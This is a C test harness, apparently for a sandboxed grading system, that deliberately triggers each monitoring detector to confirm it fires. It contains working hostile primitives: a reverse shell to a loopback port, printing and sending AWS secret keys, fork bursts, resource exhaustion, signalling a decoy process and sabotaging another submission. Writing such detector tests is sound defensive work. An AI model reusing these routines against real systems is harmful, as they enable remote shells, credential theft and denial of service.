// SPDX-License-Identifier: MIT
/*
 * stage.c - causes each oracle's effect on purpose, so that the oracle can show that it sees.
 *
 *     stage ACT ARG --armed KEY=VALUE...
 *
 * The effects are small; the oracle is given a small threshold for the occasion. Run by the worker
 * like any student's program, in an arena of its own. Silent unless armed.
 */
#include <arpa/inet.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/mman.h>
#include <sys/resource.h>
#include <sys/personality.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static char **words;

static const char *word(const char *key)
{
	size_t n = strlen(key);

	for (char **w = words; *w; w++)
		if (!strncmp(*w, key, n) && (*w)[n] == '=')
			return *w + n + 1;
	return "";
}

static void hold(void)
{
	nanosleep(&(struct timespec){ .tv_sec = 10 }, NULL);
}

static int dial(const char *port)
{
	struct sockaddr_in to = { .sin_family = AF_INET,
				  .sin_port = htons((unsigned short)atoi(port)),
				  .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	int fd = socket(AF_INET, SOCK_STREAM, 0);

	return fd < 0 || connect(fd, (struct sockaddr *)&to, sizeof(to)) ? -1 : fd;
}

static int stage_nothing(const char *arg)
{
	(void)arg;
	return 0;
}

static int stage_secret(const char *arg)
{
	(void)arg;
	return puts(getenv("AWS_SECRET_ACCESS_KEY")) < 0;
}

static int stage_sink(const char *arg)
{
	const char *given = word("secret");
	int fd = dial(word("sink"));

	(void)arg;
	return write(fd, given, strlen(given)) < 0;
}

static int stage_shell(const char *arg)
{
	int fd = dial(word("shell"));

	(void)arg;
	for (int i = 0; i < 3; i++)
		dup2(fd, i);
	execl("/bin/sh", "sh", (char *)NULL);
	return 1;
}

static int stage_census(const char *arg)
{
	(void)arg;
	for (int i = 0; i < 32; i++)
		if (fork() == 0)
			break;
	hold();
	return 0;
}

/* More than an instance of the smallest kind has: there it is the end that is to be seen. */
static int use_memory(void)
{
	size_t n = 160 << 20;
	char *p = mmap(NULL, n, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

	if (p == MAP_FAILED)
		return 1;
	memset(p, 1, n);
	hold();
	return 0;
}

/* By writing: fallocate(2) is refused in some profiles. */
static int use_disk(void)
{
	static const char block[1 << 16] = "staged";
	int fd = open("/tmp/staged", O_CREAT | O_WRONLY, 0600);

	for (int n = 0; n < 32 << 20; n += (int)sizeof(block))
		if (write(fd, block, sizeof(block)) != sizeof(block))
			return 1;
	hold();
	return 0;
}

static int use_inodes(void)
{
	for (int i = 0; i < 200; i++) {
		char path[32];

		snprintf(path, sizeof(path), "/tmp/staged-%d", i);
		close(open(path, O_CREAT | O_WRONLY, 0600));
	}
	hold();
	return 0;
}

static int use_cpu(void)
{
	while (clock() < CLOCKS_PER_SEC / 2)
		;
	hold();
	return 0;
}

static int use_time(void)
{
	hold();
	return 0;
}

static int use_output(void)
{
	static char block[1 << 16];

	for (int i = 0; i < 512; i++)
		if (write(1, block, sizeof(block)) < 0)
			return 1;
	return 0;
}

static int stage_usage(const char *arg)
{
	return !strcmp(arg, "memory") ? use_memory() :
	       !strcmp(arg, "disk")   ? use_disk() :
	       !strcmp(arg, "inodes") ? use_inodes() :
	       !strcmp(arg, "cpu")    ? use_cpu() :
	       !strcmp(arg, "time")   ? use_time() :
					use_output();
}

static int stage_creds(const char *arg)
{
	(void)arg;
	execl("/opt/helpers/setuid", "setuid", (char *)NULL);
	return 1;
}

static int stage_bystander(const char *arg)
{
	(void)arg;
	return kill(atoi(word("decoy")), SIGSTOP);
}

static int stage_settings(const char *arg)
{
	const struct rlimit less = { 8, 8 };

	(void)arg;
	return prlimit(atoi(word("decoy")), RLIMIT_NOFILE, &less, NULL);
}

/* Move the offset of the first file that was left open for us. */
static int stage_description(const char *arg)
{
	(void)arg;
	for (int fd = 3; fd < 64; fd++)
		if (!lseek(fd, 0, SEEK_CUR) && lseek(fd, 0, SEEK_END) > 0)
			return 0;
	return 1;
}

static int stage_survivor(const char *arg)
{
	(void)arg;
	if (fork())
		return 0;
	setsid();
	for (int fd = 0; fd < 3; fd++)
		close(fd);
	hold();
	return 0;
}

static int stage_spoil(const char *arg)
{
	(void)arg;
	return close(open("/tmp/spoiled", O_CREAT | O_WRONLY, 0600));
}

static int stage_honest(const char *arg)
{
	(void)arg;
	if (!access("/tmp/spoiled", F_OK))
		return 1;
	if (*word("answer"))
		printf("answer: %s\n", word("answer"));
	return puts("honest work done") < 0;
}

/* A wrong submission that was told the answer, or that spoils the honest student's turn. */
static int stage_grade(const char *arg)
{
	if (!strcmp(arg, "spoiled"))
		return stage_spoil(arg);
	return printf("answer: %s\n", word("answer")) < 0;
}

static int stage_api(const char *arg)
{
	static const char get[] = "GET /2018-06-01/runtime/invocation/next HTTP/1.1\r\n\r\n";
	int fd = dial(word("api"));

	(void)arg;
	return write(fd, get, sizeof(get) - 1) < 0;
}

static int stage_tree(const char *arg)
{
	(void)arg;
	return chmod("/srv/tree/notes.txt", 0600);
}

static int stage_code(const char *arg)
{
	int fd = memfd_create("staged", 0);

	(void)arg;
	if (ftruncate(fd, 4096) || mmap(NULL, 4096, PROT_EXEC, MAP_PRIVATE, fd, 0) == MAP_FAILED)
		return 1;
	hold();
	return 0;
}

static int stage_reach(const char *arg)
{
	int r = !strcmp(arg, "inotify") ? inotify_init1(0) :
		!strcmp(arg, "netlink") ? socket(AF_NETLINK, SOCK_RAW, 0) :
					  personality(ADDR_NO_RANDOMIZE);

	hold();
	return r < 0;
}

static int stage_done(const char *arg)
{
	(void)arg;
	return puts("staged") < 0;
}

static const struct {
	const char *act;
	int (*play)(const char *arg);
} acts[] = {
	{ "nothing", stage_nothing }, { "secret", stage_secret }, { "sink", stage_sink },
	{ "shell", stage_shell },     { "census", stage_census }, { "usage", stage_usage },
	{ "creds", stage_creds },     { "bystander", stage_bystander }, { "spoil", stage_spoil },
	{ "settings", stage_settings }, { "description", stage_description },
	{ "survivor", stage_survivor },
	{ "honest", stage_honest },   { "done", stage_done },
	{ "grade", stage_grade },     { "api", stage_api },
	{ "tree", stage_tree },       { "code", stage_code },
	{ "reach", stage_reach },
};

int main(int argc, char **argv)
{
	if (argc < 4 || strcmp(argv[3], "--armed"))
		return 0;
	words = argv + 4;
	for (size_t i = 0; i < sizeof(acts) / sizeof(*acts); i++)
		if (!strcmp(acts[i].act, argv[1]))
			return acts[i].play(argv[2]);
	return 2;
}
